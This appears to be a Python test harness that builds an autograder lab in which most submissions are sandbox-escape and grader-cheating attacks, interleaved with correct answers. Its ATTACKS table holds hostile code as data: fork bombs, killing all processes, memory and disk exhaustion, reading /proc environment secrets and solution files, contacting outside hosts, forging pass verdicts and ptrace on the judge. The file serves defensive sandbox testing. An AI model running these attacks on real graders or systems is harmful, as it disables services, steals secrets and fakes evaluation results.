"""A submission that is out for harm: a lab of one exercise for each attack, and right ones between.

Every exercise wants the sum over all ranks. An attack that wants to know or to change something
gives the right sum if it succeeds, so that a point for it is a hole. TOLD stands for what the
attacker has been told of the teacher's machine: a JSON file's worth of paths, ports and processes.
"""

import cheats

RIGHT = """
def NAME(tensor):
    dist.all_reduce(tensor)
    return tensor
"""
SUM = """
def right(tensor):
    dist.all_reduce(tensor)
    return tensor
"""
ATTACKS = {
    "kills_the_judge": """
import os
def kills_the_judge(tensor):
    for pid in (os.getppid(), 1): os.kill(pid, 9)
""",
    "kills_everybody": """
import os
def kills_everybody(tensor): os.kill(-1, 9)
""",
    "kills_when_it_is_defined": """
import os, signal
os.kill(-1, signal.SIGKILL)
""",
    "stops_the_judge": """
import os, signal
def stops_the_judge(tensor):
    os.kill(1, signal.SIGSTOP)
    os.kill(-1, signal.SIGSTOP)
""",
    "interrupts_the_judge": """
import os, signal
def interrupts_the_judge(tensor): os.kill(1, signal.SIGINT)
""",
    "sends_every_signal": """
import os
def sends_every_signal(tensor):
    for number in range(1, 65):
        os.kill(1, number)
""",
    "exits": """
import os
def exits(tensor): os._exit(0)
""",
    "exits_when_it_is_defined": """
import os
os._exit(0)
""",
    "ends_the_interpreter": """
import sys, threading
def ends_the_interpreter(tensor): sys.exit(0)
raise KeyboardInterrupt
""",
    "crashes": """
import ctypes
def crashes(tensor): ctypes.string_at(0)
""",
    "sleeps_for_ever": """
import select
def sleeps_for_ever(tensor): select.select([], [], [])
""",
    "loops_when_it_is_defined": """
while True: pass
""",
    "ignores_all_signals": """
import signal, select
def ignores_all_signals(tensor):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    select.select([], [], [])
""",
    "floods_the_output": """
import os
def floods_the_output(tensor):
    while True: os.write(1, b"flood " * 10000)
""",
    "forks_without_end": """
import os
def forks_without_end(tensor):
    while True:
        try: os.fork()
        except OSError: os._exit(1)
""",
    "starts_threads_without_end": """
import threading, select
def starts_threads_without_end(tensor):
    while True: threading.Thread(target=select.select, args=([], [], [])).start()
""",
    "leaves_a_killer": """
import os, time
def leaves_a_killer(tensor):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(1000):
                time.sleep(0.01)
                os.kill(-1, 9)
        os._exit(0)
""",
    "eats_memory": """
def eats_memory(tensor):
    held = []
    while True: held.append(b"x" * 50_000_000)
""",
    "eats_memory_in_many": """
import os, time, select
def eats_memory_in_many(tensor):
    while os.fork() == 0: held = b"x" * 100_000_000
    select.select([], [], [])
""",
    "eats_memory_without_a_name": """
import os
def eats_memory_without_a_name(tensor):
    files = []
    while True:
        files.append(os.memfd_create("x"))
        os.write(files[-1], b"x" * 50_000_000)
""",
    "fills_the_disk": """
def fills_the_disk(tensor):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev", "/"):
        try:
            with open(folder + "/full", "wb") as file:
                while True: file.write(b"x" * 1_000_000)
        except OSError: pass
""",
    "makes_files_without_end": """
import os
def makes_files_without_end(tensor):
    os.chdir("/tmp")
    for number in range(10**9): os.mkdir(f"{os.getpid()}-{number}")
""",
    "opens_files_without_end": """
import os
def opens_files_without_end(tensor):
    while True: os.open("/dev/null", os.O_RDONLY)
""",
    "reads_the_teachers_file": """
def reads_the_teachers_file(tensor):
    if open(TOLD["file"]).read(): return right(tensor)
""",
    "reads_the_solution": """
import pathlib, course_utils
def reads_the_solution(tensor):
    root = pathlib.Path(course_utils.__file__).parents[1]
    for name in ("solutions", "source/labs", ".git"):
        if any(root.joinpath(name).iterdir()): return right(tensor)
""",
    "finds_the_solution_in_memory": """
import gc, sys
def finds_the_solution_in_memory(tensor):
    word = "BEGIN " + "SOLUTION"
    for one in gc.get_objects():
        texts = one.values() if isinstance(one, dict) else one if isinstance(one, list) else ()
        for text in texts:
            if isinstance(text, str) and word in text and "dist.recv" in text and len(text) < 5000:
                return right(tensor)
""",
    "reads_another_submission": """
import pathlib
def reads_another_submission(tensor):
    if pathlib.Path(TOLD["other"]).read_text(): return right(tensor)
    """,
    "reads_the_environment": """
import os
def reads_the_environment(tensor):
    for file in ("/proc/1/environ", "/proc/self/environ"):
        try:
            if TOLD["secret"].encode() in open(file, "rb").read(): return right(tensor)
        except OSError: pass
    if TOLD["secret"] in str(os.environ): return right(tensor)
""",
    "calls_the_teachers_machine": """
import socket
def calls_the_teachers_machine(tensor):
    with socket.create_connection(("127.0.0.1", TOLD["port"]), 1): return right(tensor)
""",
    "calls_the_world": """
import socket
def calls_the_world(tensor):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect(("192.0.2.1", 53))
        out.send(b"grades")
        return right(tensor)
""",
    "kills_a_process_of_the_teacher": """
import os
def kills_a_process_of_the_teacher(tensor):
    os.kill(TOLD["process"], 9)
    return right(tensor)
""",
    "changes_the_course": """
import course_utils, os
def changes_the_course(tensor):
    file = course_utils.__file__
    try: os.chmod(file, 0o666)
    except OSError: pass
    with open(file, "a") as course: course.write("# changed")
    return right(tensor)
""",
    "forges_a_verdict": """
import os, glob
def forges_a_verdict(tensor):
    said = b'{"check": "check-forges_a_verdict", "passed": true, "text": ""}\\n'
    for number in range(3, 300):
        try: os.write(number, said)
        except OSError: pass
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            with open(path, "ab", buffering=0) as file: os.write(file.fileno(), said)
        except OSError: pass
""",
    "writes_into_the_judges_memory": """
import ctypes, os
def writes_into_the_judges_memory(tensor):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, 1, 0, 0) == 0: return right(tensor)
    if libc.syscall(438, libc.syscall(434, 1, 0), 0, 0) >= 0: return right(tensor)  # pidfd_getfd
    open("/proc/1/mem", "r+b")
    return right(tensor)
""",
    "makes_a_namespace": """
import ctypes, os
def makes_a_namespace(tensor):
    if (child := os.fork()) == 0: os._exit(ctypes.CDLL(None).unshare(0x10000000 | 0x20000) != 0)
    if os.waitpid(child, 0)[1] == 0: return right(tensor)
""",
    "becomes_root": """
import os
def becomes_root(tensor):
    os.setuid(0)
    return right(tensor)
""",
    "lifts_the_limits": """
import resource
def lifts_the_limits(tensor):
    resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1))
    return right(tensor)
""",
    "makes_a_device": """
import os, stat
def makes_a_device(tensor):
    os.mknod("disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0))
    return right(tensor)
""",
}
# What `check` itself would refuse; here nothing but the sandbox is to stand in the way.
ALLOWED = (
    """"allow": ("store", "backend", "files", "sockets", "processes", "memory", "environment")"""
)
# Between the attacks stand answers that are right: their points show what an attack has cost.
INNOCENT = [f"innocent_{number}" for number in range(5)]


def order() -> list[str]:
    """The exercises' names: an innocent one behind every few attacks, and last."""
    names, step = [*ATTACKS], -(-len(ATTACKS) // (len(INNOCENT) - 1))
    for number, name in enumerate(INNOCENT):
        names.insert(number * (step + 1), name)
    return names


def lab() -> str:
    """The lab's source; one launch of two ranks for each check."""
    parts = []
    for name in order():
        options = f'"timeout": {100.0 if name in INNOCENT else 0.4}, {ALLOWED}'
        text = cheats.EXERCISE.replace('"forbid": ("collectives",)', options)
        parts.append(text.replace('"points-2"', '"points-1"').replace("NAME", name))
    return cheats.HEAD + "".join(parts)


def answers(told: dict) -> dict[str, str]:
    """By exercise, what is handed in."""
    head = f"TOLD = {told!r}\n{SUM}"
    found = {name: f"{head}{text}" for name, text in ATTACKS.items()}
    return found | {name: RIGHT.replace("NAME", name) for name in INNOCENT}
